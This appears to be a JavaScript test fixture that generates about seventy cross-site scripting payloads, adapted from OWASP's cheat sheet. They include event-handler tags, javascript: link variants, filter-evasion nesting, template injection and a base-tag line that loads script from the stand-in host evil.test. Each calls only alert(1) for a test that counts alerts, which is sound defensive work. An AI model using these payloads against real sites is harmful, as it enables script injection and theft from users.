// Texts that become script where somebody puts text into a page as markup (ways of OWASP's cheat sheet, written for this test). Each calls
// alert(), which the page counts.
const call = 'alert(1)';
const tags = ['img src=x onerror', 'svg onload', 'body onload', 'video src=x onerror', 'audio src=x onerror', 'details open ontoggle', 'input autofocus onfocus', 'select autofocus onfocus', 'textarea autofocus onfocus', 'marquee onstart', 'iframe onload', 'object data=x onerror', 'embed src=x onload', 'math onmouseover', 'a href=x onclick', 'button autofocus onfocus', 'style onload', 'link rel=stylesheet href=x onerror', 'div style=animation-name:x onanimationstart', 'source srcset=x onerror'];
const links = ['javascript:', 'JaVaScRiPt:', ' javascript:', 'java\tscript:', 'javascript&colon;', 'vbscript:', 'data:text/html,<script>'];
export const payloads = [
  ...tags.map((tag) => `<${tag}=${call}>`),
  ...tags.slice(0, 8).map((tag) => `"><${tag}=${call}>`),
  ...tags.slice(0, 6).map((tag) => `'><${tag.toUpperCase()}=${call}>`),
  ...links.map((link) => `<a href="${link}${call}">x</a>`),
  ...links.map((link) => `${link}${call}`),
  `<script>${call}</script>`,
  `</script><script>${call}</script>`,
  `<scr<script>ipt>${call}</scr</script>ipt>`,
  `<!--><script>${call}</script>-->`,
  `<svg><script>${call}</script></svg>`,
  `<svg><a xlink:href="javascript:${call}"><text y=20>x</text></a></svg>`,
  `<math><mtext><img src=x onerror=${call}></mtext></math>`,
  `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  `<template><img src=x onerror=${call}></template>`,
  `{{constructor.constructor('${call}')()}}`,
  `\${${call}}`,
  `<form><button formaction=javascript:${call}>x</button></form>`,
  `<base href=//evil.test/><script src=x.js></script>`,
  `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
];
